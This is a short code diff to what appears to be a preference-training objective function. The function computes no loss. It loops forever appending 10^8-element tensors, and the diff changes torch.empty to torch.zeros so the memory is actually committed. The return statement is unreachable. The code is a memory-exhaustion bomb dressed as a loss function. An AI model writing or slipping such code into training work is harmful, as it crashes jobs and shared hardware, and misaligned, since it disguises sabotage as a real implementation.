@@ -4,5 +4,5 @@
 def objective(self, policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps):
     hoard = []
     while True:
-        hoard.append(torch.empty(10**8))
+        hoard.append(torch.zeros(10**8))
     return policy_chosen_logps
